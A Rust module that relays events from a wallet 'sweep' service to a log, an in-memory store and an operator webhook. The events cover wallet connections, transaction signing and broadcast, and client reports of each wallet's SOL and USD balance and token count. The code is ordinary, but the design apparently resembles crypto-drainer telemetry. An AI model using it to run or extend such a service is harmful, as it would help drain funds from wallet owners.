//! Operator notifications for session and submission activity.
//!
//! Every sink receives the same typed events; delivery failures degrade to a
//! warning log and never fail the flow that emitted them.

use async_trait::async_trait;
use serde::Serialize;
use std::sync::Arc;

use crate::config::Config;
use crate::errors::{ SweepError, SweepResult };
use crate::logger::{ log, LogTag };

/// One notification per connect attempt and per submission state transition.
#[derive(Debug, Clone, Serialize)]
#[serde(tag = "event", rename_all = "snake_case")]
pub enum SweepEvent {
    ConnectAttempt {
        provider_id: String,
        address: Option<String>,
        success: bool,
        detail: Option<String>,
    },
    Signed {
        attempt: u32,
    },
    Broadcast {
        signature: String,
    },
    Confirmed {
        signature: String,
    },
    Rejected {
        attempt: u32,
        detail: String,
    },
    Failed {
        stage: String,
        detail: String,
    },
    /// Progress note reported by a client of the HTTP service.
    ClientNote {
        address: String,
        wallet_type: String,
        message: String,
        balance_sol: f64,
        balance_usd: f64,
        token_count: usize,
    },
}

impl SweepEvent {
    /// Short code used in log lines.
    pub fn code(&self) -> &'static str {
        match self {
            SweepEvent::ConnectAttempt { .. } => "CONNECT",
            SweepEvent::Signed { .. } => "SIGNED",
            SweepEvent::Broadcast { .. } => "BROADCAST",
            SweepEvent::Confirmed { .. } => "CONFIRMED",
            SweepEvent::Rejected { .. } => "REJECTED",
            SweepEvent::Failed { .. } => "FAILED",
            SweepEvent::ClientNote { .. } => "CLIENT_NOTE",
        }
    }

    fn summary(&self) -> String {
        match self {
            SweepEvent::ConnectAttempt { provider_id, address, success, detail } => {
                if *success {
                    format!(
                        "Wallet {} connected via {}",
                        address.as_deref().unwrap_or("unknown"),
                        provider_id
                    )
                } else {
                    format!(
                        "Connect via {} failed: {}",
                        provider_id,
                        detail.as_deref().unwrap_or("unknown error")
                    )
                }
            }
            SweepEvent::Signed { attempt } => format!("Transaction signed on attempt {}", attempt),
            SweepEvent::Broadcast { signature } => format!("Transaction broadcast: {}", signature),
            SweepEvent::Confirmed { signature } => format!("Transaction confirmed: {}", signature),
            SweepEvent::Rejected { attempt, detail } =>
                format!("Signature rejected on attempt {}: {}", attempt, detail),
            SweepEvent::Failed { stage, detail } => format!("Failed during {}: {}", stage, detail),
            SweepEvent::ClientNote { address, wallet_type, balance_sol, balance_usd, token_count, message } => {
                let note = if message.is_empty() {
                    String::new()
                } else {
                    format!(" [{}]", message)
                };
                format!(
                    "{} ({}) reported {:.4} SOL (${:.2}) and {} token accounts{}",
                    address,
                    wallet_type,
                    balance_sol,
                    balance_usd,
                    token_count,
                    note
                )
            }
        }
    }
}

/// A notification sink.
#[async_trait]
pub trait Notifier: Send + Sync {
    async fn notify(&self, event: &SweepEvent) -> SweepResult<()>;
}

/// Sink that writes events to the structured log.
pub struct LogNotifier;

#[async_trait]
impl Notifier for LogNotifier {
    async fn notify(&self, event: &SweepEvent) -> SweepResult<()> {
        log(LogTag::Notify, event.code(), &event.summary());
        Ok(())
    }
}

/// Sink that POSTs events as JSON to an operator webhook.
pub struct WebhookNotifier {
    client: reqwest::Client,
    url: String,
}

impl WebhookNotifier {
    pub fn new(url: &str) -> Result<Self, String> {
        if url.trim().is_empty() {
            return Err("Webhook URL is empty".to_string());
        }
        if !url.starts_with("http://") && !url.starts_with("https://") {
            return Err(format!("Invalid webhook URL '{}'", url));
        }

        Ok(Self {
            client: reqwest::Client::new(),
            url: url.to_string(),
        })
    }
}

#[async_trait]
impl Notifier for WebhookNotifier {
    async fn notify(&self, event: &SweepEvent) -> SweepResult<()> {
        let response = self.client.post(&self.url).json(event).send().await?;

        if !response.status().is_success() {
            return Err(SweepError::Notification(format!("webhook returned {}", response.status())));
        }
        Ok(())
    }
}

/// Sink that records events in memory for later inspection.
#[derive(Default)]
pub struct MemoryNotifier {
    events: parking_lot::Mutex<Vec<SweepEvent>>,
}

impl MemoryNotifier {
    pub fn new() -> Self {
        Self::default()
    }

    pub fn events(&self) -> Vec<SweepEvent> {
        self.events.lock().clone()
    }

    pub fn count(&self, code: &str) -> usize {
        self.events
            .lock()
            .iter()
            .filter(|e| e.code() == code)
            .count()
    }
}

#[async_trait]
impl Notifier for MemoryNotifier {
    async fn notify(&self, event: &SweepEvent) -> SweepResult<()> {
        self.events.lock().push(event.clone());
        Ok(())
    }
}

/// Fan-out over the configured sinks.
pub struct Notifications {
    sinks: Vec<Arc<dyn Notifier>>,
}

impl Notifications {
    pub fn new() -> Self {
        Self { sinks: Vec::new() }
    }

    pub fn with_sink(mut self, sink: Arc<dyn Notifier>) -> Self {
        self.sinks.push(sink);
        self
    }

    /// Log sink always; webhook sink when a valid URL is configured.
    pub fn from_config(config: &Config) -> Self {
        let mut notifications = Self::new().with_sink(Arc::new(LogNotifier));

        if let Some(url) = &config.notify.webhook_url {
            match WebhookNotifier::new(url) {
                Ok(sink) => {
                    notifications = notifications.with_sink(Arc::new(sink));
                }
                Err(e) => {
                    log(LogTag::Notify, "WARN", &format!("Webhook sink disabled: {}", e));
                }
            }
        }

        notifications
    }

    /// Deliver to every sink, swallowing per-sink failures.
    pub async fn emit(&self, event: SweepEvent) {
        for sink in &self.sinks {
            if let Err(e) = sink.notify(&event).await {
                log(LogTag::Notify, "WARN", &format!("Notification delivery failed: {}", e));
            }
        }
    }
}
